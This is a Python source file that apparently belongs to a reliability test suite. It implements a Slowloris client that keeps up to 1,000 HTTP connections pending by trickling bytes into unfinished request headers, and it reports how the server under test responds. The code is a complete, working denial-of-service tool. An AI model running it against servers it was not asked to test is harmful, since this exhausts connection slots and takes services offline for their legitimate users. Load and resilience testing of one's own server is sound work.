#!/usr/bin/env python3
"""Slowloris clients for scripts/reliability/20-slowloris.sh (stdlib only).

Holds COUNT connections to HOST:PORT, each sending a partial request head and then one byte every INTERVAL
seconds, never finishing the head. When the server closes one (as it should, at its request-head deadline), the
close is counted and the client reconnects at once, so the attack keeps COUNT connections pending all the time.

One thread and one epoll set for all connections, so that the attacker itself costs little CPU: on a two-core
machine every percent it burns is taken from the server and from wrk, and would be counted as throughput the
attack cost the server (an asyncio version used half a core for 1,000 connections).

Runs until SIGTERM/SIGINT or --duration, then prints one JSON object: how many connections were open (sampled
every second after the ramp-up), how many the server closed, what it answered before closing, and how many
connection attempts failed.
"""
import argparse
import errno
import json
import select
import signal
import socket
import time


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--interval", type=float, default=3.0, help="seconds between two bytes")
    parser.add_argument("--duration", type=float, default=3600.0)
    parser.add_argument("--ready-file", help="written once COUNT connections are open")
    args = parser.parse_args()

    stopping = []
    for sig in (signal.SIGTERM, signal.SIGINT):
        signal.signal(sig, lambda *_: stopping.append(True))

    poller = select.epoll()
    sockets = {}  # fd -> [socket, index, next byte due, connected]
    stats = {"connects": 0, "connect_failures": 0, "server_closes": 0, "responses": {}}
    samples = []
    ramp_seconds = None
    started = time.monotonic()

    def head(index):
        return (f"GET /healthz?slow={index} HTTP/1.1\r\nHost: {args.host}\r\nUser-Agent: slowloris\r\n"
                f"X-Slow: ").encode()

    def open_one(index):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        error = sock.connect_ex((args.host, args.port))
        if error not in (0, errno.EINPROGRESS):
            sock.close()
            stats["connect_failures"] += 1
            return False
        sockets[sock.fileno()] = [sock, index, time.monotonic() + args.interval, False]
        poller.register(sock.fileno(), select.EPOLLOUT | select.EPOLLIN | select.EPOLLRDHUP)
        return True

    def close_one(fd, by_server):
        sock, index = sockets.pop(fd)[:2]
        poller.unregister(fd)
        sock.close()
        if by_server:
            stats["server_closes"] += 1
        return index

    # Ramp up without a SYN flood: 50 connections per 10 ms.
    for index in range(args.count):
        while not open_one(index):
            time.sleep(0.5)
        if index % 50 == 49:
            time.sleep(0.01)
    deadline = started + args.duration
    next_sample = time.monotonic() + 1
    reopen, retry = [], []
    while not stopping and time.monotonic() < deadline:
        for fd, events in poller.poll(0.2):
            entry = sockets.get(fd)
            if entry is None:
                continue
            sock, index, _, connected = entry
            if not connected and events & (select.EPOLLERR | select.EPOLLHUP):
                stats["connect_failures"] += 1
                retry.append((time.monotonic() + 0.5, close_one(fd, False)))
                continue
            if not connected and events & select.EPOLLOUT:
                try:
                    sock.send(head(index))
                    entry[3] = True
                    stats["connects"] += 1
                    poller.modify(fd, select.EPOLLIN | select.EPOLLRDHUP)
                except OSError:
                    stats["connect_failures"] += 1
                    retry.append((time.monotonic() + 0.5, close_one(fd, False)))
                continue
            if events & (select.EPOLLIN | select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR):
                try:
                    data = sock.recv(4096)
                except OSError:
                    data = b""
                if data.startswith(b"HTTP/1.1 "):
                    status = data[9:12].decode(errors="replace")
                    stats["responses"][status] = stats["responses"].get(status, 0) + 1
                reopen.append(close_one(fd, connected))
        now = time.monotonic()
        # Closed by the server: reconnect at once; a failed connection: after half a second.
        reopen += [index for due, index in retry if due <= now]
        retry = [(due, index) for due, index in retry if due > now]
        for index in reopen:
            if not open_one(index):
                retry.append((now + 0.5, index))
        reopen = []
        for fd, entry in list(sockets.items()):
            if entry[3] and now >= entry[2]:
                entry[2] = now + args.interval
                try:
                    entry[0].send(b"a")  # one more byte of a header value that never ends
                except OSError:
                    reopen.append(close_one(fd, True))
        if now >= next_sample:
            next_sample = now + 1
            connected = sum(1 for entry in sockets.values() if entry[3])
            if ramp_seconds is None and connected >= args.count * 0.98:
                ramp_seconds = round(now - started, 2)
                if args.ready_file:
                    with open(args.ready_file, "w") as file:
                        file.write("ready\n")
            if ramp_seconds is not None:
                samples.append(connected)
    for fd in list(sockets):
        close_one(fd, False)
    samples = samples or [0]
    print(json.dumps({
        "target": args.count,
        "ramp_seconds": ramp_seconds,
        "open_min": min(samples),
        "open_mean": round(sum(samples) / len(samples)),
        "connects": stats["connects"],
        "connect_failures": stats["connect_failures"],
        "server_closes": stats["server_closes"],
        "responses": stats["responses"],
        "seconds": round(time.monotonic() - started, 1),
    }))


if __name__ == "__main__":
    main()
